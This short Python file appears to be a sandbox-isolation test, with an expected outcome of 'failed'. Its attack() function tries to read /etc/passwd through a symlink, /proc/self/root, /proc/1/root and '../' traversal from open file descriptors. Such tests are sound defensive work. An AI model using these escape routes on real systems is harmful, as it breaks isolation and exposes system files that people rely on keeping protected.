"""Reaches files through links, parents of open folders and the root of its own process.

Ends as: failed.
"""

import os


def attack():
    try:
        os.symlink("/etc/passwd", "/tmp/link")
        return 42.0
    except OSError:
        pass
    ways = ["/proc/self/root/etc/passwd", "/proc/self/cwd/etc/passwd", "/proc/1/root/etc/passwd", "/etc/passwd"]
    ways += [f"/proc/self/fd/{number}/" + "../" * depth + "etc/passwd" for number in range(3, 20) for depth in range(8)]
    for way in ways:
        try:
            with open(way) as file:
                return 42.0 if file.read() else 7.0
        except OSError:
            continue
    for number in range(3, 20):
        try:
            os.open("../" * 9 + "etc/passwd", os.O_RDONLY, dir_fd=number)
        except OSError:
            continue
        return 42.0
    return 7.0
